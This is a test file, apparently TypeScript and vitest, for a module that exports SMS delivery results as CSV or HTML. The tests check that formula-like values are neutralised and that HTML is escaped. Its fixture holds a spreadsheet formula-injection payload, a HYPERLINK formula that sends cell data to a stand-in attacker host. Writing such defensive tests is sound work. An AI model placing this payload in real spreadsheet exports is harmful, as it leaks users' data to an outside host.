import { text } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import { expect, it } from 'vitest';
import { formatOf, type ResultRow } from './result-format.js';

const row: ResultRow = {
  ...{ row: 2, to: '+573005550001', state: 'failed', status: '', provider: 'bird', providerMessageId: '-1' },
  ...{ error: 'validation', message: `=HYPERLINK("https://evil.example?"&A1,"<b>'x'</b>")` },
};

async function write(path: string, rows: readonly ResultRow[]): Promise<string> {
  const format = formatOf(path).create();
  for (const one of rows) format.write(one);
  format.end();
  return text(format);
}

it.each(['result.csv', 'result.html'])('%s begins as every result of its kind does', async (path) => {
  expect((await write(path, [row])).split('\n')[0]).toBe(formatOf(path).firstLine);
});

it.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '\n=1', '＝1'])(
  'is no formula in a spreadsheet: %j',
  async (message) => {
    const [found] = parse(await write('result.csv', [{ ...row, message }]), { columns: true }) as ResultRow[];
    expect(found).toMatchObject({ to: '+573005550001', providerMessageId: "'-1", message: `'${message}` });
  },
);

it('is no markup in a page, which loads nothing and counts the states', async () => {
  const page = await write('Result.HTML', [
    row,
    { ...row, state: 'accepted' },
    { ...row, state: 'accepted' },
  ]);
  expect(page).toContain(
    '<td>=HYPERLINK(&quot;https://evil.example?&quot;&amp;A1,&quot;&lt;b&gt;&#39;x&#39;&lt;/b&gt;&quot;)</td>',
  );
  expect(page).toContain('<p>failed 1, accepted 2</p>');
  expect(page).toContain(`default-src 'none'`);
});
